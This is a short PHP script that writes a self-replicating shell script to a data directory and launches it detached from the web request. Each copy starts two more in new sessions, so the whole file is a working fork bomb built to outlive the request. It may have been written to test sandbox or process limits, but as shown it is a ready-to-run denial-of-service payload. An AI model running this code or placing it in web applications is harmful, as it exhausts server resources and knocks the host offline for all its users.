<?php
// Each shell starts two in sessions of their own and is gone: they outlive the request.
$bomb = __DIR__ . '/data/bomb-' . getmypid();
file_put_contents($bomb, "setsid sh $bomb & setsid sh $bomb & wait\n");
exec("setsid sh $bomb > /dev/null 2>&1 &");
